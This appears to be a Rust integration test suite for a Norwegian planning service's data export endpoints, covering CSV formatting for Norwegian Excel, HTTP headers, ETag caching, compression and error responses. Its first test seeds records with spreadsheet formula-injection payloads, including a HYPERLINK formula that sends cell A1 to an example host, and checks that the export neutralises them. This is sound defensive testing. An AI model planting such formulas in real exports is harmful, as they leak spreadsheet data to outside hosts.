//! How exports are written, and what their headers say.

use std::io::Read as _;

use reqwest::{Method, StatusCode, header};
use samspill::auth::Role;
use serde_json::json;

use super::{ask, bytes, contents::records, refused, rows, table::Budget, text};
use crate::support::{Backend, Client, Reply, Server};

on_both!(
    spreadsheets_find_no_formulas,
    norwegian_excel_opens_it,
    headers_tell_what_it_is,
    what_is_known_already_is_not_sent_again,
    what_cannot_be_had_is_refused,
);

/// Where a column stands in a record.
fn column(header: &[String], name: &str) -> usize {
    header.iter().position(|column| column == name).unwrap_or_else(|| panic!("{name} in {header:?}"))
}

async fn spreadsheets_find_no_formulas(backend: Backend) {
    let server = Server::start(backend).await;
    let formula = "=HYPERLINK(\"https://example.no?\"&A1;\"Dans\")";
    let budget = Budget::make(&server, formula).await;
    let texts = ["+47 55", "-1+1", "@SUM(A1)", "a=1", "\"sitat\", komma; og\nlinje", "＝1+1", "'=1"];
    for text in texts {
        budget.add(text).await;
    }
    for excel in [false, true] {
        let parameters: &[(&str, &str)] = if excel { &[("excel", "nb")] } else { &[] };
        let csv = text(&budget.planner, "budget.csv", parameters).await;
        let csv = csv.trim_start_matches('\u{feff}').to_owned();
        let mut reader = csv::ReaderBuilder::new();
        let mut reader = reader.delimiter(if excel { b';' } else { b',' }).from_reader(csv.as_bytes());
        let header: Vec<String> = reader.headers().unwrap().iter().map(str::to_owned).collect();
        let (title, description) = (column(&header, "partnershipTitle"), column(&header, "description"));
        let records: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
        let mut written: Vec<&str> = records.iter().map(|record| &record[description]).collect();
        written.sort_unstable();
        let mut expected = ["'+47 55", "'-1+1", "'@SUM(A1)", "a=1", texts[4], "'＝1+1", "'=1", "Leie av sal"];
        expected.sort_unstable();
        assert_eq!(written, expected);
        for record in &records {
            assert_eq!(&record[title], format!("'{formula}"));
            // Numbers stay numbers.
            let planned = &record[column(&header, "planned")];
            assert_eq!(planned, if excel { "1250,50" } else { "1250.50" });
        }
    }
    // The formats that no spreadsheet guesses at keep the text as it is.
    for row in rows(&budget.planner, "budget", &[]).await {
        assert_eq!(row["partnershipTitle"], formula);
    }
}

async fn norwegian_excel_opens_it(backend: Backend) {
    let server = Server::start(backend).await;
    let budget = Budget::make(&server, "Dans på Ørnes: æøå, š").await;
    let excel = text(&budget.planner, "budget.csv", &[("excel", "nb")]).await;
    assert!(excel.starts_with('\u{feff}') && excel.ends_with("\r\n"));
    let lines: Vec<&str> = excel.trim_start_matches('\u{feff}').trim_end().split("\r\n").collect();
    assert_eq!(lines.len(), 2);
    let cells = |line: &str| line.split(';').map(str::to_owned).collect::<Vec<_>>();
    let (header, row) = (cells(lines[0]), cells(lines[1]));
    assert_eq!(header.len(), row.len());
    let cell = |name| row[column(&header, name)].as_str();
    assert_eq!(cell("partnershipTitle"), "Dans på Ørnes: æøå, š");
    assert_eq!(cell("planned"), "1250,50");
    assert_eq!(cell("budgetFiscalYear"), "2026");
    // Digits that are a name stay text, with the zero they may begin with.
    assert_eq!(cell("municipalityNumber"), "\"=\"\"4601\"\"\"");
    assert_eq!(cell("kostraFunction"), "\"=\"\"383\"\"\"");
    assert_eq!(cell("actual"), "");
    let created = cell("createdAt");
    assert!(chrono::NaiveDateTime::parse_from_str(created, "%Y-%m-%d %H:%M:%S").is_ok(), "{created}");
    let usual = records(&text(&budget.planner, "budget.csv", &[]).await);
    let cell = |name| usual[1][column(&usual[0], name)].as_str();
    assert_eq!((cell("municipalityNumber"), cell("planned"), cell("kostraFunction")), ("4601", "1250.50", "383"));
    assert!(chrono::DateTime::parse_from_rfc3339(cell("createdAt")).is_ok());
}

async fn headers_tell_what_it_is(backend: Backend) {
    let server = Server::start(backend).await;
    let budget = Budget::make(&server, "Dans").await;
    for (ending, kind) in [
        ("csv", "text/csv; charset=utf-8; header=present"),
        ("ndjson", "application/x-ndjson"),
        ("parquet", "application/vnd.apache.parquet"),
    ] {
        for table in super::TABLES {
            let file = format!("{table}.{ending}");
            let response = ask(&budget.planner, &file, &[]).await;
            assert_eq!(response.status(), StatusCode::OK);
            let headers = response.headers().clone();
            assert_eq!(headers[header::CONTENT_TYPE], kind);
            let name = headers[header::CONTENT_DISPOSITION].to_str().unwrap();
            let (before, after) = name.split_at("attachment; filename=\"samspill-".len() + table.len() + 1);
            assert_eq!(before, format!("attachment; filename=\"samspill-{table}-"));
            let (date, end) = after.split_at(10);
            assert!(chrono::NaiveDate::parse_from_str(date, "%Y-%m-%d").is_ok(), "{name}");
            assert_eq!(end, format!(".{ending}\""));
            assert_eq!(headers[header::CACHE_CONTROL], "private, no-cache");
            assert!(headers.contains_key("x-request-id"));
            let vary: Vec<_> = headers.get_all(header::VARY).iter().map(|value| value.to_str().unwrap()).collect();
            assert!(vary.join(", ").contains("Authorization"), "{vary:?}");
            let body = response.bytes().await.unwrap();
            assert!(ending != "parquet" || (body.starts_with(b"PAR1") && body.ends_with(b"PAR1")));
            // HEAD says the same, and no more.
            let head = budget.planner.request(Method::HEAD, &format!("/export/{file}")).send().await.unwrap();
            assert_eq!(head.status(), StatusCode::OK);
            for name in [header::CONTENT_TYPE, header::CONTENT_DISPOSITION, header::ETAG, header::CACHE_CONTROL] {
                assert_eq!(head.headers()[&name], headers[&name], "{name}");
            }
            assert!(!head.headers().contains_key(header::CONTENT_LENGTH));
            assert!(head.bytes().await.unwrap().is_empty());
        }
    }
    compressed(&budget.planner).await;
}

async fn compressed(planner: &Client) {
    let zipped = async |file: &str| {
        let request = planner.request(Method::GET, &format!("/export/{file}")).header(header::ACCEPT_ENCODING, "gzip");
        request.send().await.unwrap()
    };
    let response = zipped("budget.csv").await;
    assert_eq!(response.headers()[header::CONTENT_ENCODING], "gzip");
    let mut csv = String::new();
    flate2::read::GzDecoder::new(&*response.bytes().await.unwrap()).read_to_string(&mut csv).unwrap();
    assert_eq!(csv, text(planner, "budget.csv", &[]).await);
    // Parquet is compressed within.
    let response = zipped("budget.parquet").await;
    assert!(!response.headers().contains_key(header::CONTENT_ENCODING));
    assert_eq!(response.bytes().await.unwrap(), bytes(planner, "budget.parquet", &[]).await);
}

async fn tag(client: &Client, file: &str, parameters: &[(&str, &str)]) -> String {
    ask(client, file, parameters).await.headers()[header::ETAG].to_str().unwrap().to_owned()
}

async fn known(client: &Client, file: &str, tag: &str) -> Reply {
    let request = client.request(Method::GET, &format!("/export/{file}")).header(header::IF_NONE_MATCH, tag);
    Reply::of(request).await.unwrap()
}

async fn what_is_known_already_is_not_sent_again(backend: Backend) {
    let server = Server::start(backend).await;
    let budget = Budget::make(&server, "Dans").await;
    let planner = &budget.planner;
    let first = tag(planner, "budget.csv", &[]).await;
    assert!(first.starts_with("W/\""));
    let reply = known(planner, "budget.csv", &format!("\"other\", {first}")).await;
    assert_eq!(reply.status, StatusCode::NOT_MODIFIED);
    assert_eq!(reply.headers[header::ETAG], first.as_str());
    assert_eq!(reply.headers[header::CACHE_CONTROL], "private, no-cache");
    assert_eq!(known(planner, "budget.csv", "\"other\"").await.status, StatusCode::OK);
    // Another file, another part of it, another reader: another tag.
    let mut tags = vec![first.clone()];
    for (file, parameters) in [
        ("budget.ndjson", vec![]),
        ("budget.csv", vec![("excel", "nb")]),
        ("budget.csv", vec![("limit", "1")]),
        ("budget.csv", vec![("filter", "{\"kind\":{\"eq\":\"COST\"}}")]),
        ("staffing.csv", vec![]),
    ] {
        tags.push(tag(planner, file, &parameters).await);
    }
    tags.push(tag(&server.planner("0301"), "budget.csv", &[]).await);
    tags.push(tag(&server.client(Role::Analyst, &["4601"], &[]), "budget.csv", &[]).await);
    // And once something has changed that the rows draw from, were it another record.
    budget.add("Noter").await;
    tags.push(tag(planner, "budget.csv", &[]).await);
    let rename = "mutation ($input: UpdateOrganisationInput!) {
        updateOrganisation(input: $input) { organisation { name } errors { code field message } }
    }";
    let school = &budget.school;
    let input = json!({ "id": school["id"], "version": school["version"], "name": "Kulturskolen i Bergen" });
    planner.ok(rename, json!({ "input": input })).await;
    tags.push(tag(planner, "budget.csv", &[]).await);
    let delete = "mutation ($input: DeleteBudgetLineInput!) {
        deleteBudgetLine(input: $input) { deletedId errors { code field message } }
    }";
    let line = budget.add("Strøm").await;
    tags.push(tag(planner, "budget.csv", &[]).await);
    planner.ok(delete, json!({ "input": { "id": line["id"], "version": line["version"] } })).await;
    tags.push(tag(planner, "budget.csv", &[]).await);
    assert_eq!(tag(planner, "budget.csv", &[]).await, *tags.last().unwrap(), "nothing has changed");
    let count = tags.len();
    tags.sort_unstable();
    tags.dedup();
    // Deleting the newest line brings back what was before it, tag and all.
    assert!(tags.len() >= count - 1, "{tags:?}");
    assert!(known(planner, "budget.csv", &first).await.status == StatusCode::OK);
}

async fn what_cannot_be_had_is_refused(backend: Backend) {
    let server = Server::start(backend).await;
    let planner = server.planner("4601").speaking("nn");
    for file in ["budget.xlsx", "names.csv", "budget", "budget.csv/x", ""] {
        let reply = refused(&planner, file, &[]).await;
        assert_eq!((reply.status.as_u16(), reply.code()), (404, "NOT_FOUND"), "{file}");
    }
    for (parameters, code, message) in [
        (vec![("columns", "id")], "BAD_REQUEST", "Eksporten har ingen parameter columns."),
        (vec![("limit", "1"), ("limit", "2")], "BAD_REQUEST", "limit er oppgjeven to gonger"),
        (vec![("filter", "{")], "BAD_REQUEST", "filter"),
        (vec![("limit", "0")], "BAD_USER_INPUT", "limit"),
        (vec![("excel", "en")], "BAD_USER_INPUT", "excel"),
        (vec![("filter", "[]")], "BAD_USER_INPUT", "filter"),
    ] {
        let reply = refused(&planner, "budget.csv", &parameters).await;
        assert_eq!((reply.status.as_u16(), reply.code()), (400, code), "{parameters:?}");
        let error = &reply.body["errors"][0];
        assert!(error["message"].as_str().unwrap().contains(message), "{error}");
        assert_eq!(error["extensions"]["requestId"], reply.headers["x-request-id"].to_str().unwrap());
        assert_eq!(reply.headers[header::CACHE_CONTROL], "no-store");
        assert!(!reply.headers.contains_key(header::CONTENT_DISPOSITION));
    }
    let reply = refused(&planner, "budget.parquet", &[("excel", "nb")]).await;
    assert_eq!(reply.code(), "BAD_USER_INPUT");
    let reply = refused(&server.stranger(), "budget.csv", &[]).await;
    assert_eq!((reply.status.as_u16(), reply.code()), (401, "UNAUTHENTICATED"));
    assert_eq!(reply.headers[header::WWW_AUTHENTICATE], "Bearer");
    let posted = Reply::of(planner.request(Method::POST, "/export/budget.csv")).await.unwrap();
    assert_eq!((posted.status.as_u16(), posted.code()), (405, "METHOD_NOT_ALLOWED"));
}
